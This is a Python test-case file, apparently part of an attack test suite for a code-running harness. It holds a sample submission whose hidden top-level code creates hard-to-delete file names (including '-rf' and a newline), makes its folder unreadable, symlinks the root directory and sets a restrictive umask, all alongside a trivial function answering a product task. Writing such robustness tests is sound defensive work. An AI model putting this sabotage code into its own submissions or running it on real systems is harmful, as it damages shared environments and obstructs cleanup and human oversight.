"""Deletes its own files, makes its folder unreadable, and leaves names that are hard to remove."""

from tests.attacks.case import FULL, PRODUCT, attack

CASE = attack(
    """
import os, shutil

here = os.getcwd()
if os.path.basename(here) not in ("", "root", "main"):
    for name in ("a\\nb", "-rf", "\\udcff", "x" * 200):
        try:
            os.makedirs(os.path.join(here, name, "deep"), exist_ok=True)
        except OSError:
            pass
    for action in (lambda: os.chmod(here, 0), lambda: os.symlink("/", os.path.join(here, "root"))):
        try:
            action()
        except OSError:
            pass

def what_is_left(factor, layers):
    os.chdir("/")
    os.umask(0o777)
    return factor**layers
""",
    points=FULL[PRODUCT],
)
